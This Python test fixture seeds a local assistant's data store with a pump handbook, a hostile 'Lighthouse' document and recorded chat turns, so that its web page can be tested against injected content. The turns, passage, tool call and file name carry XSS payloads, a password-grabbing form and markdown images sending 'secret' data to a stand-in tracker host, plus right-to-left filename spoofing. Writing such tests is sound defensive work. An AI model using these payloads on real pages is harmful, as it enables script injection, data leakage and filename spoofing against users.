"""What the home of every server holds: a handbook, a document that attacks the page, and recorded conversations."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Mapping
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from agent.records import Records
from agent.schema import Citation, Timings, ToolCall, Turn, Usage, Verdict
from knowledge.schema import Passage

GUIDE = """# Heron handbook

## Warranty

The Heron 3 pump comes with a warranty of 24 months from the date of purchase.
Send the receipt to claims@heron.example.

## Cleaning

Rinse the filter under cold water every two weeks. Never use soap on the filter.

## Noise

The pump makes a noise of 38 decibels at full speed. A humming sound means that air is in the hose.
"""
WARRANTY_TEXT = GUIDE.split("\n\n")[2]
WARRANTY_HEADING = "Heron handbook › Warranty"
WARRANTY = "How long is the warranty of the Heron 3 pump?"
CLEANING = "How often should I rinse the filter?"
# Without an adapter, the bundled model tells it until it is stopped.
STORY = "Write a very long story about a dragon and a knight."
TALKATIVE = "the model as it is"

# Uploaded by a test; nothing else in the home answers a question about it.
MANUAL = """# Kestrel drone

## Battery

The Kestrel drone flies for 31 minutes with one charge of its battery.
"""
FLIGHT = "How many minutes does the Kestrel drone fly with one charge?"

ELSEWHERE = "http://tracker.example"
KEEPER = "Who is the lighthouse keeper?"
_ATTACKS = f"""<script>window.owned = 1; alert("owned")</script>
<img src="{ELSEWHERE}/pixel.png" onerror="window.owned = 2">
<svg onload="window.owned = 3"><a href="javascript:window.owned = 4">svg</a></svg>
<iframe src="{ELSEWHERE}/frame" srcdoc="<script>parent.owned = 5</script>"></iframe>
<link rel="stylesheet" href="{ELSEWHERE}/style.css"><style>body {{ display: none }} @import "{ELSEWHERE}/a.css";</style>
<form action="{ELSEWHERE}/steal"><input name="password" autofocus onfocus="window.owned = 6"></form>
<details open ontoggle="window.owned = 7"><summary id="root">x</summary></details>
![tracking]({ELSEWHERE}/image.png?data=secret) ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[send the data]({ELSEWHERE}/?data=secret) [run](javascript:window.owned=8) [page](data:text/html,<script>1</script>)
$$\\href{{javascript:window.owned=9}}{{x}} \\includegraphics{{{ELSEWHERE}/tex.png}}$$ :red[red] {{{{ 7*7 }}}}
Right to left \u202egpj.exe\u202c, unseen \u200b\u200b\u2066isolated\u2069, and \x1b[31mred\x1b[0m.
"""
_TABLE = "\n".join(
    ["| " + " | ".join(f"column {n}" for n in range(60)) + " |", "|" + "---|" * 60]
    + ["| " + " | ".join(f"value {row}.{n}" for n in range(60)) + " |" for row in range(40)]
)
HOSTILE = f"""# Lighthouse

The lighthouse keeper is called Marta Voss. She lights the lamp. <img src="{ELSEWHERE}/x.png" onerror="alert(1)">

{_ATTACKS}
{"W" * 3000}

{_TABLE}
"""
HOSTILE_NAME = "<img src=x onerror=alert(1)> & ‮gpj.md"

_TOTAL = """| Part | Price |
|---|---:|
| Filter | 12.50 |
| Hose | 8.00 |

```python
total = 12.50 + 8.00
```

In all, 20.50."""

HOSTILE_THREAD = "0" * 31 + "1"
LONG_THREAD = "0" * 31 + "2"
SHORT_THREAD = "0" * 31 + "3"
LONG_TURNS = 100  # 200 messages


def fill(folder: Path, environment: Mapping[str, str]) -> None:
    """Write the documents into `folder`/docs, ingest them into the home of `environment`, and record conversations."""
    docs = folder / "docs"
    docs.mkdir()
    (docs / "guide.md").write_text(GUIDE, encoding="utf-8")
    (docs / HOSTILE_NAME).write_text(HOSTILE, encoding="utf-8")
    run(environment, "ingest", str(docs))
    with recording(environment) as records:
        for each in [*long_thread(docs), hostile_turn(docs), *short_thread(docs)]:
            records.append(each)


def run(environment: Mapping[str, str], *arguments: str) -> None:
    """A `ratchet` command that must work."""
    command = [sys.executable, "-m", "agent.cli", *arguments]
    done = subprocess.run(command, env=dict(environment), capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def recording(environment: Mapping[str, str]) -> closing[Records]:
    """The records of the home of `environment`, to be closed."""
    return closing(Records(Path(environment["RATCHET_HOME"]) / "ratchet.db"))


def turn(number: int, thread_id: str, question: str, answer: str, minutes: int = 0) -> Turn:
    """A finished turn without passages; number and minutes tell it from others."""
    at = datetime.now(UTC) - timedelta(days=20) + timedelta(minutes=minutes)
    return Turn(
        f"{thread_id[-1]}{number:031d}",
        thread_id,
        question,
        answer,
        "done",
        usage=Usage(420, 38),
        timings=Timings(0.02, 0.2, 0.3, 1.4),
        model="local:default",
        created_at=at.isoformat(),
    )


def quoted(plain: Turn, source: Path, text: str, heading: str, line: int) -> Turn:
    """The turn with one passage, cited as [1] after the first sentence, which it supports."""
    passage = Passage(f"{line:064d}", str(source), text, line, line + text.count("\n"), heading=heading)
    first = plain.answer.partition(". ")[0].rstrip(".") + "."
    cited = first.removesuffix(".") + " [1]."
    citation = Citation(1, str(source), passage.locator, first, passage.id, heading, None, line, line)
    return replace(
        plain,
        answer=plain.answer.replace(first, cited, 1),
        citations=(citation,),
        passages=(passage,),
        verdicts=(Verdict(0, len(cited), "supported", 1),),
        query=plain.question,
    )


def short_thread(docs: Path) -> list[Turn]:
    """A conversation as they mostly are: a citation, an unsupported sentence, a table, code, a tool call."""
    said = "The Heron 3 pump comes with a warranty of 24 months from the date of purchase. It is a very good pump."
    asked = turn(0, SHORT_THREAD, WARRANTY, said, 600)
    first = quoted(asked, docs / "guide.md", WARRANTY_TEXT, WARRANTY_HEADING, 5)
    unsupported = Verdict(first.answer.index(" It is") + 1, len(first.answer), "not", None, "no passage says it")
    first = replace(first, verdicts=(*first.verdicts, unsupported))
    second = turn(1, SHORT_THREAD, "What do a filter and a hose cost together?", _TOTAL, 601)
    call = ToolCall("call_1", "calculator", {"expression": "12.50 + 8.00"}, "20.5", "ok", 0.004)
    return [first, replace(second, tool_calls=(call,))]


def hostile_turn(docs: Path) -> Turn:
    """A turn whose answer, passage, tool call, notes and question all attack the page."""
    attacked = turn(0, HOSTILE_THREAD, f"{KEEPER} {_ATTACKS}", f"The keeper is Marta. {_ATTACKS}\n\n{_TABLE}", 500)
    attacked = quoted(attacked, docs / HOSTILE_NAME, f"The keeper is Marta. {_ATTACKS}", f"Lighthouse {_ATTACKS}", 3)
    table = {"columns": ["a", _ATTACKS], "rows": [["1", _ATTACKS]]}
    call = ToolCall("call_h", "calculator", {"expression": _ATTACKS}, _ATTACKS, "ok", 0.1, {"table": table})
    return replace(attacked, tool_calls=(call,), notes=(_ATTACKS,))


def long_thread(docs: Path) -> list[Turn]:
    """200 messages, most with a citation."""
    turns = []
    for number in range(LONG_TURNS):
        said = f"The warranty is 24 months from the date of purchase. This is answer {number} of a long conversation."
        asked = turn(number, LONG_THREAD, f"Question {number}: how long is the warranty?", said, number)
        turns.append(quoted(asked, docs / "guide.md", WARRANTY_TEXT, WARRANTY_HEADING, 5))
    return turns
